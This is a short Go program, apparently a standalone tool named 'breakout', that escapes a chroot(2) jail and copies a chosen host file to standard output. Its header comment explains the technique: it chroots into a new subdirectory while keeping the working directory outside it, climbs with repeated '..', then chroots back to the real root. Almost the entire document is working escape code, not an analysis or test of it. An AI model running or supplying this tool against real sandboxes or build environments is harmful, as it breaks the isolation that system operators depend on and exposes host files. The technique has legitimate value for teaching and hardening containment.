// Breakout leaves a root directory that was set with chroot(2), and prints a file
// of the host.
//
//	breakout FILE
//
// chroot moves the root, and only that: whoever stands outside of it can walk up to
// the real root, because ".." stops only at the process's own root directory. So:
// chroot into a directory below, while keeping the working directory above it.
// Against pivot_root it finds nothing, for there is nothing above.
package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"syscall"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "breakout:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout io.Writer) error {
	if len(args) != 1 {
		return fmt.Errorf("which file? breakout FILE")
	}
	if err := escape(); err != nil {
		return err
	}
	file, err := os.Open(args[0])
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = io.Copy(stdout, file)
	return err
}

// escape moves the process's root directory as far up as there is anything.
func escape() error {
	below, err := os.MkdirTemp("/", "below")
	if err != nil {
		return err
	}
	if err := syscall.Chroot(below); err != nil { // we stand in "/", which is now outside
		return err
	}
	if err := os.Remove(filepath.Base(below)); err != nil { // seen from there it is still here
		return err
	}
	for range 100 {
		if err := syscall.Chdir(".."); err != nil { // stops only at the real root
			return err
		}
	}
	return syscall.Chroot(".")
}
